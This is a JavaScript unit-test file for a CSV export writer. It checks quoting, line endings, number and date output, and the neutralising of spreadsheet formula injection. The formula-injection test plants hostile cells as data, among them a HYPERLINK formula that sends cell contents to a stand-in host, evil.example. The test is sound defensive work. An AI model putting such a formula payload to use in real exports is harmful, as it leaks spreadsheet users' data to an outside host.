import { describe, expect, it } from 'vitest';
import { csvRow, csvRows } from '../../server/platform/csv.js';

describe('the CSV writer every export uses', () => {
  it('quotes separators, quotes and line breaks, with CRLF records', () => {
    expect(csvRow(['plain', 'a, "b"', 'say "hi"'])).toBe('plain,"a, ""b""","say ""hi"""\r\n');
    expect(csvRow(['one\ntwo', 'three\rfour', 'five\r\nsix'])).toBe('"one\ntwo","three\rfour","five\r\nsix"\r\n');
    expect(csvRows([['a'], ['b']])).toBe('a\r\nb\r\n');
    expect(csvRows([])).toBe('');
  });

  it('neutralises every cell a spreadsheet would run as a formula', () => {
    const planted = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '@SUM(1+1)',
      '-2+3',
      '+201234',
      '\t=1+1',
      '\r=1+1',
    ];
    expect(csvRow(planted)).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),'-2+3,'+201234,'\t=1+1,"'\r=1+1"\r\n`,
    );
  });

  it('writes our own numbers, booleans and dates as they are', () => {
    expect(csvRow([-5, 42, true, false, new Date('2026-01-02T03:04:05Z'), null, undefined])).toBe(
      '-5,42,true,false,2026-01-02T03:04:05.000Z,,\r\n',
    );
  });
});
